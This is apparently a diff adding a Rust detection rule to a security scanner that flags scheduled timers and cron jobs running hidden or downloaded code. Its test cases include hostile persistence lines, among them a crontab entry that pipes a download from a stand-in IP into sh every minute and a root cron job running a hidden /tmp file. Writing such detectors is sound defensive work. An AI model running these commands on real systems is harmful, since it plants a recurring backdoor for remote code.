@@ -1,0 +1,35 @@
+//! Timers and units of the system.
+
+use crate::fact::Hold;
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{CODE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "PERSIST_TIMER",
+    category: Category::Persistence,
+    severity: Severity::Critical,
+    title: "code is made to run again and again",
+    why: "A timer that fetches, decodes or runs hidden files keeps a way in open.",
+    fix: "let a person set up timers, with commands that stand in files",
+    places: CODE,
+    anchors: &["cron", "systemctl", "launchctl", "launchagents", "systemd", "schtasks", "launchdaemons"],
+    check: Check::Unit(check),
+    hits: &[
+        text("```bash\n(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -\n```"),
+        file("x.sh", "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x\n"),
+        file("x.py", "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/.x\") | crontab -')\n"),
+    ],
+    misses: &[
+        text("```bash\nsudo systemctl enable nginx\n```"),
+        text("```bash\ncrontab -l\n```"),
+        file("x.sh", "cp app.service /etc/systemd/system/app.service\nsystemctl enable app\n"),
+    ],
+};
+
+fn check(unit: &Unit<'_>) -> Vec<Hit> {
+    super::holds(unit, &[Hold::Timer], severity)
+}
+
+fn severity(what: &str, text: &str) -> Severity {
+    if super::is_suspect(text) || super::is_suspect(what) { Severity::Critical } else { Severity::Note }
+}
